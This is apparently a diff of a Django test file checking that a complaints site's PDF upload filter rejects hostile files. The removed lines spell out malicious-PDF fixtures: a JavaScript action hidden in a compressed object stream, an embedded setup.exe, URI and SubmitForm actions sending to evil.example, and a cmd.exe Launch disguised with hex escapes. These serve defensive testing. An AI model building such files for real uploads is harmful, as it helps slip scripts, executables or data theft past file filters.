@@ -8,47 +8,29 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import timezone
 from PIL import Image
 
+from tests.kit.pdf_corpus import HOSTILE, PLAIN
 from workflows.complaints.demo import DEMO_EMAIL_DOMAIN
 from workflows.complaints.models import Complaint
+from workflows.core.demo import text_pdf
 
 TRACKING_NUMBER_RE = re.compile(r"GRS-[0-9A-HJKMNP-TV-Z]{10}")
 SUBMISSION_TOKEN_RE = re.compile(r'name="submission_token" value="([^"]+)"')
 
-PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
+PDF = text_pdf("Complaint letter")
 
 
-def pdf_with_object_stream(dictionary: bytes) -> bytes:
-    """A PDF whose objects sit in a compressed object stream (PDF 1.5), so the raw bytes show no name at all."""
-    import zlib
-
-    packed = zlib.compress(b"1 0 " + dictionary)
-    return (
-        b"%PDF-1.7\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
-        + str(len(packed)).encode()
-        + b" >>\nstream\n"
-        + packed
-        + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
-    )
-
-
-# What the probe of the running site got accepted as "PDF without scripts" (issue 11).
-PDF_WITH_PACKED_JAVASCRIPT = pdf_with_object_stream(
-    b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
-)
-PDF_WITH_EMBEDDED_EXE = (
-    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(setup.exe) 2 0 R] >> >> >>\nendobj\n"
-    b"2 0 obj\n<< /Type /Filespec /F (setup.exe) /EF << /F 3 0 R >> >>\nendobj\n"
-    b"3 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj\n%%EOF\n"
-)
-PDF_WITH_GOTOE = b"%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /GoToE /T << /R /C /N (setup.exe) >> >> >>\nendobj\n%%EOF\n"
-PDF_WITH_URI = b"%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /URI /URI (http://evil.example/) >> >>\nendobj\n%%EOF\n"
-PDF_WITH_SUBMIT_FORM = pdf_with_object_stream(b"<< /OpenAction << /S /SubmitForm /F (http://evil.example/) >> >>")
-# A plain PDF whose page content is compressed: accepted.
-PLAIN_COMPRESSED_PDF = pdf_with_object_stream(b"<< /Type /Catalog /Pages 3 0 R >>")
-
-PDF_WITH_JAVASCRIPT = b"%PDF-1.4\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n"
+# What the probe of the running site got accepted as "PDF without scripts" (issue 11), from the kit's corpus.
+PDF_WITH_PACKED_JAVASCRIPT = HOSTILE["js_openaction_in_objstm"]()
+PDF_WITH_EMBEDDED_EXE = HOSTILE["embedded_exe_gotoe"]()
+PDF_WITH_GOTOE = HOSTILE["gotoe_link"]()
+PDF_WITH_URI = HOSTILE["uri_action"]()
+PDF_WITH_SUBMIT_FORM = HOSTILE["submitform"]()
+PDF_WITH_JAVASCRIPT = HOSTILE["js_in_names_tree"]()
 # The same action with its name spelt in #xx escapes, as malware does to slip past naive scanners.
-PDF_WITH_HIDDEN_LAUNCH = b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /L#61unch /F (cmd.exe) >> >>\nendobj\n%%EOF\n"
+PDF_WITH_HIDDEN_LAUNCH = HOSTILE["launch_spelt_in_hex_escapes"]()
+# A plain PDF whose objects are compressed: accepted.
+PLAIN_COMPRESSED_PDF = PLAIN["object_streams"]()
+
 EXE = (
     b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
     + b"\x00" * 200
